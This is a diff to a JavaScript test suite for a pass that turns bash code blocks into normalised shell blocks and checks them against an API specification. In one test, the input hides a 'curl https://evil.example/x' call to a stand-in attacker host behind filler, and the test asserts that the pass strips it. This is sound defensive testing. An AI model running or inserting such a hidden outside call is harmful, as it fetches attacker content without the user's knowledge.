@@ -120,7 +120,7 @@ describe('code', () => {
     const { text, gate } = await pass([
       'Do this: [1]\n\n```bash\ncurl -X POST https://api.shop.example/v1/refunds \\\n  -d \'{"charge": "ch_9", "amount": 7}\'\n```\n',
     ]);
-    expect(text).toContain('```shell\ncurl');
+    expect(text).toMatch(/```shell\n[\s\S]*curl --request POST 'https:\/\/api\.shop\.example\/v1\/refunds'/);
     expect(text).toContain('"ch_9"');
     expect(text).toContain('7');
     expect(gate.grounding).toEqual({ status: 'grounded', unresolved: [] });
@@ -181,7 +181,7 @@ describe('code', () => {
       '1. Do:\n   ```json\n   {"amout": 5}\n   ```\n   *(not found in the specification: amout; nearest: amount)*\n',
     );
     const call = await pass(['- ```bash\n  curl https://api.shop.example/v1/refunds\n  ```\n- b']);
-    expect(call.text).toMatch(/^- ```shell\n {2}curl[\s\S]*\n {2}```\n- b$/);
+    expect(call.text).toMatch(/^- ```shell\n {2}[\s\S]*\n {2}curl [\s\S]*\n {2}```\n- b$/);
   });
 
   it('of a program that was not computed is said to be none', async () => {
@@ -195,7 +195,7 @@ describe('code', () => {
     const { text } = await pass([
       `\`\`\`bash\ncurl -X POST https://api.shop.example/v1/refunds\n${filler}curl https://evil.example/x\n\`\`\`\nDone. [1]`,
     ]);
-    expect(text).toContain('```shell\ncurl');
+    expect(text).toContain('\ncurl --request POST');
     expect(text).not.toContain('evil.example');
     expect(text.endsWith('```\nDone. [1]')).toBe(true);
   });
